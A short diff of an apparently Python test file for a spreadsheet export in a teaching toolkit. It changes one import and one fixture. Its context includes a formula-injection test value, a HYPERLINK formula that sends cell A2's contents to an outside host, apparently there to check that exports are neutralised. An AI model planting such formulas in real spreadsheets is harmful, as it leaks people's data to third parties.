@@ -11,7 +11,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from leerkit.notebook.results import results_frame
-from leerkit.notebook.results_table import ResultsTable, as_text
+from leerkit.notebook.results_table import ResultsTable
+from leerkit.report.spreadsheet import as_text
 
 FORMULAS = [
     '=HYPERLINK("http://example.org?"&A2,"Klik hier")',
@@ -78,7 +79,7 @@ def results_with(text: str) -> dict[str, object]:
         "n_answered": 3,
         "tally": {"n_answered": 3, "charts": [chart]},
     }
-    return {"lessons": [{"slug": "01-les", "exercises": [exercise]}]}
+    return {"lessons": [{"slug": "01-les", "title": "Les", "exercises": [exercise]}]}
 
 
 def saved(table: pd.DataFrame, path: Path) -> list[list[str]]:
